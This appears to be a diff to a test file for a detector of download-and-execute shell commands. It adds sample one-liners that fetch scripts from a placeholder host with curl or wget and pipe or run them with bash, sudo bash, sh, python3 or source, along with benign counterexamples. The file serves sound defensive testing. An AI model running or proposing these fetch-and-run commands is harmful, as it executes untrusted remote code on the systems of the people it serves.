@@ -53,6 +53,12 @@ SCRIPTS = {
     "curl -o /tmp/a https://a.example/a && chmod +x /tmp/a && /tmp/a": ["curl"],
     "wget https://a.example/a; chmod 755 a; ./a": ["wget"],
     "echo aGk= | base64 -d | sh": ["base64"],
+    "curl -fsSL https://a.example/setup_20.x | sudo -E bash -": ["curl"],
+    "curl -s https://a.example | /usr/bin/env A=1 B=2 bash": ["curl"],
+    "wget -q https://a.example/Install.sh && bash Install.sh -b": ["wget"],
+    "curl -so /tmp/a https://a.example/x; sh -e /tmp/a": ["curl"],
+    "curl -s https://a.example/x > a.py; python3 a.py": ["curl"],
+    "curl -sO https://a.example/env.sh; . ./env.sh": ["curl"],
 }
 
 ORDINARY = [
@@ -72,6 +78,8 @@ ORDINARY = [
     "npm start",
     "go test ./...",
     "bash run.sh; curl https://metrics.example",
+    "wget https://a.example/model.bin && python3 infer.py model.bin",
+    "curl https://trainer.example/tokens -o t; python -m trainer",
 ]
 
 
@@ -167,6 +175,8 @@ def test_any_text_gives_names_of_tools_alone(text: str) -> None:
         "go run ",
         "chmod ",
         "npm ",
+        "curl a;sh a;",
+        "sh x",
     ],
 )
 def test_hostile_text_takes_no_longer_than_any(part: str) -> None:
